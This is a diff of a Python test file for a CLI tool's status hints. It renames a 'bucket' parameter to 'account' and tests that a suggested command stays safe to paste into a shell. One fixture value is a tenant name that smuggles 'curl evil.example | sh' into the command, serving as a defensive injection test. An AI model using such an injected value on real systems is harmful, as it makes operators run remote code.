@@ -16,16 +16,16 @@ EVIL = "Ann's; curl evil.example | sh #"
 """Customers choose their names, and operators copy the command into a shell."""
 
 
-def record(bucket: str = "default", tenant: str = "acme", lanes: int = 1) -> dict[str, Any]:
+def record(account: str = "default", tenant: str = "acme", lanes: int = 1) -> dict[str, Any]:
     view = DestinationView(
-        Destination("stripe", bucket, tenant, "api.test"),
+        Destination("stripe", account, tenant, "api.test"),
         BreakerView("open", 0, 1, 40.0, 0, 0),
         (FailureView(19.26, 60.0, cause="http_500"), FailureView(20.0, None, cause="dns")),
     )
     return {
         "tenant": tenant,
         "provider": "stripe",
-        "bucket": bucket,
+        "account": account,
         **breaker_record(view),
         "lanes_held": lanes,
     }
@@ -55,12 +55,12 @@ def test_a_process_that_claims_nothing_is_shown_as_unhealthy() -> None:
 
 
 @pytest.mark.parametrize(
-    ("bucket", "tenant", "options"),
+    ("account", "tenant", "options"),
     [
         ("default", "acme", ["-t", "acme", "-p", "stripe"]),
-        ("eu", EVIL, ["-t", EVIL, "-p", "stripe", "-b", "eu"]),
+        ("eu", EVIL, ["-t", EVIL, "-p", "stripe", "-a", "eu"]),
     ],
 )
-def test_the_command_of_the_hint_can_be_pasted(bucket: str, tenant: str, options: list[str]) -> None:
-    command = problem_of(record(bucket, tenant)).partition("(hint: `")[2].removesuffix("`)")
+def test_the_command_of_the_hint_can_be_pasted(account: str, tenant: str, options: list[str]) -> None:
+    command = problem_of(record(account, tenant)).partition("(hint: `")[2].removesuffix("`)")
     assert shlex.split(command) == ["fairlead", "gate", "status", *options]
